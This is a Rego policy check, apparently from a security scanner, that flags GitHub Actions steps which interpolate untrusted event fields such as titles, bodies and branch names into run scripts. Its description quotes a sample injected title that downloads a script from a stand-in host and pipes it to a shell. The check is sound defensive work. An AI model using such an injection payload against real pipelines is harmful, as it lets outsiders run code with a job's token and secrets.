# METADATA
# title: Untrusted input interpolated into a run script
# description: >-
#   A `run:` script (or an actions/github-script `script:`) interpolates a
#   `${{ }}` expression that an outsider controls: an issue, pull request,
#   comment, review or discussion title/body, a commit message or author, a
#   branch name (github.head_ref, pull_request.head.ref). The expression is
#   pasted into the script before the shell runs it, so a title such as
#   `"; curl evil.sh | sh #` becomes code executed with the job's token and
#   secrets.
# related_resources:
#   - ref: https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
#   - ref: https://securitylab.github.com/resources/github-actions-untrusted-input/
# custom:
#   id: EVD-GHA-004
#   severity: high
#   remediation: >-
#     Pass the value through an environment variable (env: TITLE: ${{ github.event.issue.title }})
#     and use "$TITLE" (quoted) in the script; never interpolate untrusted expressions
#     into the script text.
#   selector:
#     input: github_actions
#     resources: [job]
#   controls:
#     hipaa: ["164.312(c)(1)", "164.312(a)(1)"]
#     gdpr: ["Art.32(1)(b)"]
#   rationale:
#     hipaa: Code injection in the pipeline lets outsiders alter software and reach credentials protecting ePHI.
#     gdpr: Injection into the build pipeline threatens the integrity and confidentiality of processing systems.
package evident.checks.github_actions.script_injection

import data.evident.lib.finding

untrusted := `^(github\.head_ref|github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|discussion_comment\.body|pages(\.[^.]+|\[[^\]]*\])\.page_name|commits(\.[^.]+|\[[^\]]*\])\.(message|author\.(email|name))|head_commit\.(message|author\.(email|name)|committer\.(email|name))|workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))|release\.(name|body)))$`

deny contains f if {
	some job in input.resources
	job.kind == "job"
	some i, step in job.steps
	some term in step.contexts
	regex.match(untrusted, term)
	f := finding.at(job, location(step), finding.format("step %d of %s interpolates %s into a script", [i + 1, job.id, term]))
}

location(step) := ["steps", step.index, "run"] if is_string(step.run)

else := ["steps", step.index, "with", i, "value"] if {
	some i, entry in step.with
	entry.key == "script"
} else := ["steps", step.index]
